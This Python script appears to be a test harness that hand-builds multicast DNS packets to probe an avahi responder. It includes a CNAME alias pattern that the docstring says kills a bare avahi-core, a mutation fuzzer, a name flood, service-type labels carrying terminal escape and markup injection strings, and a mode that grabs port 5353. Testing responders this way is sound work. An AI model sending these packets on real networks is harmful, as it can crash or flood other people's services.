"""mdns.py - multicast DNS by hand: what a stranger may send.

    mdns.py INTERFACE cname            the pattern that kills a bare avahi-core
    mdns.py INTERFACE mutate SEED N [PID]  N packets that are nearly right
    mdns.py INTERFACE files PID FILE...    a packet each
    mdns.py INTERFACE flood N          N names of one type, from one peer
    mdns.py INTERFACE hear             when each question comes
    mdns.py INTERFACE types            types that are none, and one that is
    mdns.py INTERFACE hold             nobody else gets port 5353
"""

import random
import select
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
PTR, CNAME, TXT, AAAA, SRV, A, DNAME = 12, 5, 16, 28, 33, 1, 39
TYPE = "_test._tcp.local"


def name(text):
    labels = text.encode().split(b".")
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner, kind, data, ttl=120, flush=True):
    owner = owner if isinstance(owner, bytes) else name(owner)
    clazz = 0x8001 if flush else 1
    return owner + struct.pack(">HHIH", kind, clazz, ttl, len(data)) + data


def response(*records):
    return struct.pack(">6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def question(text, kind):
    return struct.pack(">6H", 0, 0, 1, 0, 0, 0) + name(text) + struct.pack(">HH", kind, 1)


def srv(host, port=80):
    return struct.pack(">HHH", 0, 0, port) + name(host)


def open_socket(interface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("", 5353))
    index = socket.if_nametoindex(interface)
    mreqn = struct.pack("4s4si", socket.inet_aton(GROUP[0]), b"\0" * 4, index)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreqn)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, mreqn)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return s


def send(s, data):
    s.sendto(data, GROUP)


def evil_service():
    full = "evil." + TYPE
    return response(
        record(TYPE, PTR, name(full), flush=False),
        record(full, SRV, srv("x.local")),
        record(full, TXT, b"\0"),
    )


def send_cname(s):
    """An address behind two chains of aliases that join, gone in two seconds."""
    aliases = [("x", "i1"), ("x", "i2"), ("i1", "i3"), ("i2", "i3")]
    records = [
        record(a + ".local", CNAME, name(b + ".local"), 2, False) for a, b in aliases
    ]
    records.append(record("i3.local", A, b"\x0a\x09\x08\x63", 2, False))
    send(s, evil_service())
    for _ in range(6):
        send(s, response(*records))
        for one in records:
            send(s, response(one))
        wait_for_queries(s, 0.5)
    wait_for_queries(s, 3)


def wait_for_queries(s, seconds):
    """Answers the question for the evil service as long as it is asked."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        if select.select([s], [], [], max(0, until - time.monotonic()))[0]:
            data = s.recv(9000)
            if not data[2] & 0x80 and b"evil" in data:
                send(s, evil_service())


def random_packet(rng):
    owners = [TYPE, "evil." + TYPE, "x.local", "box.local", "_services._dns-sd._udp.local"]
    datas = {
        PTR: lambda: name(rng.choice(owners)),
        CNAME: lambda: name(rng.choice(owners)),
        DNAME: lambda: name(rng.choice(owners)),
        SRV: lambda: srv(rng.choice(owners)),
        TXT: lambda: b"\3a=1\0"[: rng.randint(0, 5)],
        A: lambda: b"\x0a\x09\x08\x63",
        AAAA: lambda: b"\xfe\x80" + bytes(14),
        47: lambda: rng.randbytes(rng.randint(0, 9)),
    }
    records = []
    for _ in range(rng.randint(1, 6)):
        kind = rng.choice(list(datas))
        ttl = rng.choice([0, 1, 2, 120])
        records.append(
            record(rng.choice(owners), kind, datas[kind](), ttl, rng.random() < 0.5)
        )
    if rng.random() < 0.2:
        return question(rng.choice(owners), rng.choice(list(datas) + [255]))
    data = bytearray(response(*records))
    if rng.random() < 0.2:  # a probe, or known answers
        data[2:4] = b"\0\0"
        data[rng.choice([7, 9])] = len(records)
    return bytes(data)


def mutate(rng, data):
    data = bytearray(data)
    for _ in range(rng.choice([0, 0, 0, 1, 1, 2, 5])):
        at = rng.randrange(len(data))
        what = rng.randrange(3)
        if what == 0:
            data[at] = rng.randrange(256)
        elif what == 1:
            data[at : at + 2] = struct.pack(">H", 0xC000 | rng.randrange(len(data) + 8))
        else:
            del data[at : at + rng.randint(1, 8)]
        if not data:
            break
    return bytes(data)


def send_mutated(s, seed, n, pid):
    rng = random.Random(seed)
    for i in range(n):
        send(s, mutate(rng, random_packet(rng)))
        if i % 20 == 0:
            wait_for_reader(pid)


def send_files(s, pid, paths):
    for i, path in enumerate(paths):
        with open(path, "rb") as file:
            data = file.read()
        if len(data) <= 65000:
            send(s, data)
        if i % 20 == 0:
            wait_for_reader(pid)


def waiting_bytes(pid):
    """What the sockets of port 5353 in the process's network have not read."""
    with open("/proc/%d/net/udp" % pid, encoding="ascii") as table:
        rows = [line.split() for line in table if ":14E9 " in line]
    return sum(int(row[4].split(":")[1], 16) for row in rows)


def wait_for_reader(pid):
    """So that the kernel's queue does not drop most."""
    time.sleep(0.002)
    while pid and waiting_bytes(pid) > 20000:
        time.sleep(0.005)


def send_types(s):
    owner = "_services._dns-sd._udp.local"
    for label in (b"_e\x1b[31m", b"_\xc2\x9b31m", b"_sp ace", b"_q\"<b>", b"_good"):
        kind = bytes([len(label)]) + label + name("_tcp.local")
        send(s, response(record(owner, PTR, kind, 4500, False)))


def send_flood(s, n):
    for first in range(0, n, 20):
        send(s, response(*[
            record(TYPE, PTR, name("n%06d-%s.%s" % (i, "x" * 40, TYPE)), 4500, False)
            for i in range(first, min(first + 20, n))
        ]))
        time.sleep(0.001)


def hear(s):
    print("hearing", flush=True)
    while True:
        data = s.recv(9000)
        if not data[2] & 0x80:
            print("heard %.6f" % time.monotonic(), flush=True)


def hold():
    held = []
    for family in (socket.AF_INET, socket.AF_INET6):
        s = socket.socket(family, socket.SOCK_DGRAM)
        if family == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        s.bind(("", 5353))
        held.append(s)
    print("held", flush=True)
    sys.stdin.read()


def main():
    interface, what = sys.argv[1:3]
    if what == "hold":
        hold()
        return
    s = open_socket(interface)
    if what == "hear":
        hear(s)
    if what == "cname":
        send_cname(s)
    elif what == "mutate":
        pid = int(sys.argv[5]) if len(sys.argv) > 5 else 0
        send_mutated(s, int(sys.argv[3]), int(sys.argv[4]), pid)
    elif what == "files":
        send_files(s, int(sys.argv[3]), sys.argv[4:])
    elif what == "types":
        send_types(s)
    elif what == "flood":
        send_flood(s, int(sys.argv[3]))
    print("sent", flush=True)


if __name__ == "__main__":
    main()
